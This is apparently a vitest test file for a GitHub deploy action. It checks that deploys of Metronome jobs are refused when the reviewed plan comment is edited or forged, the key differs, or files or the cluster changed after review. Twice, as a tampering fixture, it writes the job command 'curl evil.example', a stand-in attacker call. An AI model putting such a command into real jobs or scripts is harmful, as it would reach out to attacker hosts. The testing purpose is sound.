import { describe, expect, it } from 'vitest';
import { markerLine } from '../../action/github/marker.ts';
import { LEAST } from '../github/tokens.ts';
import { PULL } from './checkout.ts';
import { job, type Pipeline, pipeline } from './pipeline.ts';
import type { Done } from './runner.ts';

/** What a deploy takes for an approval, and what it does not. */

const head = { 'jobs/a.json': job('a', 'true'), 'jobs/b.json': job('b', 'true') };
const marker = markerLine('plan', 'prod');

function refusesEverything({ cluster }: Pipeline, done: Done, words: RegExp, exit = 4): void {
	expect(done.errors.map(({ data }) => data).join('\n')).toMatch(words);
	expect([done.code, cluster.writes]).toEqual([exit, []]);
	expect(done.summary).toContain('Nothing was deployed');
}

async function plannedAndMerged(options: Partial<Parameters<typeof pipeline>[0]> = {}): Promise<Pipeline> {
	const line = await pipeline({ head, ...options });
	const planned = await line.pull({ mode: 'plan' });
	expect(planned.code).toBe(0);
	line.merge();
	return line;
}

const ownComment = ({ fake }: Pipeline) => {
	const found = fake.state.comments.find(
		({ body, login }) => body.startsWith(marker) && login.endsWith('[bot]'),
	);
	if (found === undefined) throw new Error('there is no plan');
	return found;
};

describe('a deploy of a merged pull request is refused, and nothing is written,', () => {
	it('when the cluster was changed after the review', async () => {
		const line = await plannedAndMerged();
		await line.cluster.call('POST', '/v1/jobs', job('a', 'somebody was here'));
		const done = await line.main({ mode: 'deploy', adopt: 'true' });
		refusesEverything(line, done, /changed since/);
		expect(done.summary).toContain('somebody was here');
		expect(line.fake.state.comments.some(({ body }) => body.includes('Nothing was deployed'))).toBe(true);
	});

	it('when the files are others than those of the review', async () => {
		const line = await plannedAndMerged();
		line.edit({ 'jobs/b.json': job('b', 'curl evil.example') });
		refusesEverything(line, await line.main({ mode: 'deploy' }), /changed since/);
	});

	it.each([
		['a word of it', (body: string) => body.replace('to create', 'to make')],
		['what it approves', (body: string) => body.replace(/approves [0-9a-f]{8}/, 'approves 00000000')],
		['a line more', (body: string) => `${body}\n\nlooks good`],
	])('when somebody has changed the comment: %s', async (_, change) => {
		const line = await plannedAndMerged();
		const comment = ownComment(line);
		comment.body = change(comment.body);
		refusesEverything(line, await line.main({ mode: 'deploy' }), /was edited/);
	});

	it('when only somebody else has written a comment like ours', async () => {
		const line = await plannedAndMerged();
		const { body } = ownComment(line);
		line.fake.state.comments.length = 0;
		line.fake.state.comments.push({ id: 1, on: PULL, login: 'mallory', body, updates: 0 });
		refusesEverything(line, await line.main({ mode: 'deploy' }), /no comment with a plan of ours/);
	});

	it('when the comment was sealed with another key', async () => {
		const line = await plannedAndMerged();
		const inputs = { mode: 'deploy', 'plan-key': 'another key of enough length' };
		refusesEverything(line, await line.main(inputs), /sealed with another key/);
	});

	it('when there is no key at all, and says so', async () => {
		const line = await pipeline({ head });
		await line.pull({ mode: 'plan', 'plan-key': '' });
		expect(ownComment(line).body).toContain('approves nothing: there is no `plan-key`');
		line.merge();
		refusesEverything(line, await line.main({ mode: 'deploy', 'plan-key': '' }), /plan-key/);
	});

	it('when no pull request brought the commit', async () => {
		const line = await pipeline({ head });
		refusesEverything(line, await line.main({ mode: 'deploy' }), /merged by no pull request/);
	});

	it('when the token may not read pull requests', async () => {
		const line = await pipeline({ head, owner: LEAST });
		line.merge();
		refusesEverything(line, await line.main({ mode: 'deploy' }), /not accessible/);
	});

	it('while the pull request is open, whatever it asks for', async () => {
		const line = await pipeline({ head });
		const done = await line.pull({ mode: 'deploy', approval: 'none' });
		expect([done.code, line.cluster.writes]).toEqual([2, []]);
	});
});

describe('a reviewed plan', () => {
	it('holds although GitHub gives line ends back in another form', async () => {
		const line = await plannedAndMerged();
		const comment = ownComment(line);
		comment.body = `${comment.body.replaceAll('\n', '\r\n')}\r\n`;
		const done = await line.main({ mode: 'deploy' });
		expect([done.code, done.outputs['applied']]).toEqual([0, '2']);
	});

	it('holds although another job of the cluster was changed', async () => {
		const line = await plannedAndMerged();
		await line.cluster.call('POST', '/v1/jobs', job('somebody.elses', 'true'));
		expect((await line.main({ mode: 'deploy' })).code).toBe(0);
	});

	it('is one comment, changed with each push, and none that anybody else has written', async () => {
		const line = await pipeline({ head });
		const forged = { id: 1, on: PULL, login: 'mallory', body: `${marker}\napproved`, updates: 0 };
		line.fake.state.comments.push(forged);
		const first = await line.pull({ mode: 'plan' });
		line.edit({ 'jobs/b.json': job('b', 'sleep 1') });
		const second = await line.pull({ mode: 'plan' });
		expect(first.outputs['digest']).not.toBe(second.outputs['digest']);
		expect(line.fake.state.comments).toHaveLength(2);
		expect(forged.body).toBe(`${marker}\napproved`);
		expect(ownComment(line)).toMatchObject({ updates: 1 });
	});

	it('approves nothing any more once a file has an error', async () => {
		const line = await plannedAndMerged();
		line.edit({ 'jobs/b.json': job('b', 'true', { run: { cmd: 'true', cpus: -1, mem: 32, disk: 0 } }) });
		const done = await line.pull({ mode: 'plan' });
		expect(done.code).toBe(1);
		expect(line.fake.state.comments).toHaveLength(1);
		expect(ownComment(line).body).toContain('No plan for');
		expect(ownComment(line).body).not.toContain('metronome-jobs:approves');
	});

	it('can be a file, which does what it says and nothing else', async () => {
		const line = await pipeline({ head });
		const planned = await line.main({ mode: 'plan', 'plan-file': 'out/plan.json' });
		expect(planned.outputs['plan-file']).toMatch(/out\/plan\.json$/);
		const deployed = await line.main({ mode: 'deploy', 'plan-file': 'out/plan.json' });
		expect([deployed.code, deployed.outputs['applied']]).toEqual([0, '2']);
		const writes = line.cluster.writes.length;
		line.edit({ 'jobs/b.json': job('b', 'curl evil.example') });
		const refused = await line.main({ mode: 'deploy', 'plan-file': 'out/plan.json' });
		expect([refused.code, line.cluster.writes.length]).toEqual([4, writes]);
	});

	it('can be named by its digest, which a refused deploy tells', async () => {
		const line = await pipeline({ head });
		const refused = await line.main({ mode: 'deploy' });
		const digest = refused.outputs['digest'] ?? '';
		expect(refused.summary).toContain(`approved-digest: ${digest}`);
		const other = await line.main({ mode: 'deploy', 'approved-digest': '0'.repeat(64) }, 'workflow_dispatch');
		refusesEverything(line, other, /another plan/);
		const done = await line.main({ mode: 'deploy', 'approved-digest': digest }, 'workflow_dispatch');
		expect(done.code).toBe(0);
	});
});
